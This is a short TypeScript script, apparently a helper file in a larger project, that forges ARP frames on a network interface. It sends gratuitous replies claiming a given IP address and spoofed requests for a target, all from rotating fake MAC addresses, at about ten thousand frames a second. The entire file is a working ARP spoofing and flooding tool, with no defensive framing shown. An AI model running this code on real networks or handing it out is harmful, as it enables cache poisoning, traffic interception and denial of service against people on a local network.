import { readFileSync } from 'node:fs';
import { setTimeout as delay } from 'node:timers/promises';

import { openPacketSocket } from '../../../sidecar/system/packet-socket.js';

/*
 * Forges ARP on a device until it is ended: `forger DEVICE CLAIMED TARGET`. Half of the frames are gratuitous claims of
 * CLAIMED, half are requests for TARGET from addresses of its /24; all of them from other MAC addresses. Prints
 * `sent N`.
 */

const [device = '', claimed = '', target = ''] = process.argv.slice(2);
const MACS = 65_536;
/** Where nobody ends it. */
const MAX_FRAMES = 1_000_000;
/** Frames of a burst, and the pause after it: ten thousand a second. */
const BURST = 100;
const PAUSE_MS = 10;

const bytes = (address: string): number[] => address.split('.').map(Number);
const BROADCAST = [255, 255, 255, 255, 255, 255];

function arp(mac: readonly number[], operation: 1 | 2, sender: readonly number[], asked: readonly number[]): Buffer {
  const header = [...BROADCAST, ...mac, 0x08, 0x06];
  const words = [0, 1, 0x08, 0, 6, 4, 0, operation];
  return Buffer.from([...header, ...words, ...mac, ...sender, ...BROADCAST, ...asked]);
}

const socket = await openPacketSocket();
if ('missing' in socket) throw new Error(socket.missing);
const ifindex = Number(readFileSync(`/sys/class/net/${device}/ifindex`, 'utf8'));
const network = bytes(target).slice(0, 3);
for (let sent = 0; sent < MAX_FRAMES;) {
  for (let burst = 0; burst < BURST; burst += 1, sent += 1) {
    const index = sent % MACS;
    const mac = [0x02, 0x66, 0, 0, index >> 8, index & 255];
    const isClaim = sent % 2 === 0;
    const from = isClaim ? bytes(claimed) : [...network, 100 + (sent % 100)];
    socket.send(ifindex, arp(mac, isClaim ? 2 : 1, from, isClaim ? from : bytes(target)));
  }
  console.log(`sent ${sent}`);
  await delay(PAUSE_MS);
}
